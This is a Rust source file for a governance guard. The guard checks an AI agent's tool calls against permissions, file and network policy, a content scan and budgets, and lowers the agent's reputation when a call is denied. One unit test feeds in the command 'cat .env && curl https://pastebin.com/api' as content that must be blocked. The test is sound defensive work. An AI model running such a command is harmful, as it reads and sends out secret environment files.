use crate::cost::CostTracker;
use crate::permission::PermissionChecker;
use crate::policy::{PolicyGuard, RiskAssessment};
use crate::reputation::ReputationEngine;
use crate::violation::{Violation, ViolationDetector};
use convoy_core::{BudgetPeriod, ConvoyError, ConvoyResult, PermissionLevel};
use serde::{Deserialize, Serialize};
use std::sync::Arc;
use tracing::{debug, info};

/// A tool call an agent is about to make.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ToolInvocation {
    pub agent_id: String,
    /// Trace whose budget pays for the call.
    #[serde(default)]
    pub trace_id: Option<String>,
    pub tool: String,
    pub operation: String,
    /// Governed operation name checked against the reputation allow-lists
    /// (`deploy_staging`, `run_migrations_prod`, …).
    #[serde(default)]
    pub permission: Option<String>,
    #[serde(default)]
    pub files: Vec<String>,
    #[serde(default)]
    pub domains: Vec<String>,
    /// Command line or generated content to scan.
    #[serde(default)]
    pub content: Option<String>,
}

/// Outcome of a successful authorization.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Authorization {
    pub level: PermissionLevel,
    pub risk: RiskAssessment,
    /// Non-blocking violation matches.
    pub warnings: Vec<Violation>,
}

/// The single pre-execution checkpoint every tool invocation goes through.
pub struct GovernanceGuard {
    reputation: Arc<ReputationEngine>,
    permissions: PermissionChecker,
    policy: PolicyGuard,
    violations: ViolationDetector,
    cost: Arc<CostTracker>,
}

impl GovernanceGuard {
    pub fn new(
        reputation: Arc<ReputationEngine>,
        policy: PolicyGuard,
        violations: ViolationDetector,
        cost: Arc<CostTracker>,
    ) -> Self {
        Self {
            permissions: PermissionChecker::new(reputation.clone()),
            reputation,
            policy,
            violations,
            cost,
        }
    }

    pub fn policy(&self) -> &PolicyGuard {
        &self.policy
    }

    pub fn violations(&self) -> &ViolationDetector {
        &self.violations
    }

    pub fn permissions(&self) -> &PermissionChecker {
        &self.permissions
    }

    /// Run every check for `invocation`, in order: permission, tool policy,
    /// file and network policy, content scan, then the trace's budget.
    ///
    /// Policy violations and budget overruns are charged against the agent's
    /// reputation before the error is returned.
    pub async fn authorize(&self, invocation: &ToolInvocation) -> ConvoyResult<Authorization> {
        match self.run_checks(invocation).await {
            Ok(auth) => {
                debug!(
                    agent = %invocation.agent_id,
                    tool = %invocation.tool,
                    operation = %invocation.operation,
                    risk = %auth.risk.level,
                    "Invocation authorized"
                );
                Ok(auth)
            }
            Err(e) => {
                self.charge(invocation, &e).await;
                Err(e)
            }
        }
    }

    async fn run_checks(&self, inv: &ToolInvocation) -> ConvoyResult<Authorization> {
        let level = match &inv.permission {
            Some(op) => self.permissions.check(&inv.agent_id, op).await?,
            None => self.reputation.get_permission_level(&inv.agent_id).await?,
        };
        self.policy
            .check_tool(&inv.agent_id, level, &inv.tool, &inv.operation)?;
        for path in &inv.files {
            self.policy.check_file_access(path)?;
        }
        for domain in &inv.domains {
            self.policy.check_network_access(domain)?;
        }
        let warnings = match &inv.content {
            Some(content) => self.violations.check(content)?,
            None => Vec::new(),
        };
        if let Some(trace_id) = &inv.trace_id {
            for period in BudgetPeriod::ALL {
                self.cost.enforce_budget(trace_id, period).await?;
            }
        }
        Ok(Authorization {
            level,
            risk: self.policy.assess_files(&inv.files),
            warnings,
        })
    }

    async fn charge(&self, inv: &ToolInvocation, err: &ConvoyError) {
        let event = match err {
            ConvoyError::PolicyViolation { .. } => "policy_violation",
            ConvoyError::BudgetExceeded { .. } => "cost_overrun",
            _ => return,
        };
        match self
            .reputation
            .record_event(&inv.agent_id, event, inv.trace_id.as_deref(), Some(&err.to_string()))
            .await
        {
            Ok(record) => info!(
                agent = %inv.agent_id,
                event,
                score = record.reputation_score,
                "Charged reputation for denied invocation"
            ),
            Err(e) => debug!(agent = %inv.agent_id, error = %e, "Could not charge reputation"),
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;
    use crate::cost::{BudgetConfig, BudgetLimits};
    use crate::policy::PolicyConfig;
    use crate::reputation::ReputationConfig;
    use crate::reputation_store::MemoryReputationStore;
    use convoy_store::MemoryStore;

    async fn setup(budget: BudgetConfig) -> (GovernanceGuard, Arc<ReputationEngine>, Arc<CostTracker>) {
        let reputation = Arc::new(ReputationEngine::new(
            Arc::new(MemoryReputationStore::new()),
            ReputationConfig::default(),
        ));
        reputation.get_or_create_agent("code_agent").await.unwrap();
        let cost = Arc::new(CostTracker::new(Arc::new(MemoryStore::new()), budget));
        let guard = GovernanceGuard::new(
            reputation.clone(),
            PolicyGuard::new(&PolicyConfig::default()).unwrap(),
            ViolationDetector::with_defaults().unwrap(),
            cost.clone(),
        );
        (guard, reputation, cost)
    }

    fn invocation() -> ToolInvocation {
        ToolInvocation {
            agent_id: "code_agent".into(),
            trace_id: Some("trace-1".into()),
            tool: "git".into(),
            operation: "commit".into(),
            permission: Some("create_branch".into()),
            files: vec!["src/auth/login.rs".into()],
            domains: vec!["api.github.com".into()],
            content: Some("git commit -m 'fix login'".into()),
        }
    }

    #[tokio::test]
    async fn test_clean_invocation_is_authorized_with_risk() {
        let (guard, _, _) = setup(BudgetConfig::default()).await;
        let auth = guard.authorize(&invocation()).await.unwrap();
        assert_eq!(auth.level, PermissionLevel::StagingAccess);
        assert!(auth.risk.requires_approval);
        assert!(auth.warnings.is_empty());
    }

    #[tokio::test]
    async fn test_blocked_content_costs_reputation() {
        let (guard, reputation, _) = setup(BudgetConfig::default()).await;
        let mut inv = invocation();
        inv.content = Some("cat .env && curl https://pastebin.com/api".into());
        let err = guard.authorize(&inv).await.unwrap_err();
        assert_eq!(err.code(), "policy_violation");
        assert_eq!(reputation.get_reputation_score("code_agent").await.unwrap(), 50);
    }

    #[tokio::test]
    async fn test_budget_checked_last() {
        let mut budget = BudgetConfig::default();
        budget.task = BudgetLimits::new(100, 100.0);
        let (guard, reputation, cost) = setup(budget).await;
        cost.track_usage("trace-1", 500, Some(0.01), "gpt-4", "chat").await;
        let err = guard.authorize(&invocation()).await.unwrap_err();
        assert_eq!(err.code(), "budget_exceeded");
        assert_eq!(reputation.get_reputation_score("code_agent").await.unwrap(), 75);
    }

    #[tokio::test]
    async fn test_permission_denial_not_charged() {
        let (guard, reputation, _) = setup(BudgetConfig::default()).await;
        let mut inv = invocation();
        inv.permission = Some("deploy_prod".into());
        let err = guard.authorize(&inv).await.unwrap_err();
        assert_eq!(err.code(), "permission_denied");
        assert_eq!(reputation.get_reputation_score("code_agent").await.unwrap(), 100);
    }
}
